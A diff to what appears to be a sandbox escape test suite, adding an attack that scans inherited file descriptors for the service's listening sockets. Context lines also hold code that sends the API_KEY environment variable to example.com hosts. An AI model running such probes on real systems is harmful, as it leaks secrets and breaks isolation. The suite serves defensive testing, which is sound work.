@@ -107,6 +107,7 @@ ATTACKS = (
     Attack("have_a_secret_sent_without_tls", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'******' in r or b'sk-live' in r else r", policy=POLICY),
     Attack("have_a_secret_sent_elsewhere", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://www.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' in r else r", policy=POLICY),
     Attack("see_a_secret_in_an_echo", "import os, urllib.request as u\nr = u.urlopen(u.Request('https://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' not in r else r", policy=POLICY),
+    Attack("keep_a_listener_of_the_service", "import os, socket\nfound = []\nfor n in range(3, 256):\n    try:\n        found.append(socket.socket(fileno=n).family)\n    except OSError:\n        pass\n'ESCAPED' if {socket.AF_INET, socket.AF_INET6} & {*found} else found", opened_by=("descriptors",)),
     Attack("pass_descriptors_to_itself", _TRY.format("a, b = socket.socketpair()\n    socket.send_fds(a, [b'x'], [0])"), opened_by=("seccomp",)),
     Attack("take_larger_buffers", _TRY.format("socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)"), opened_by=("seccomp",)),
 )  # fmt: skip
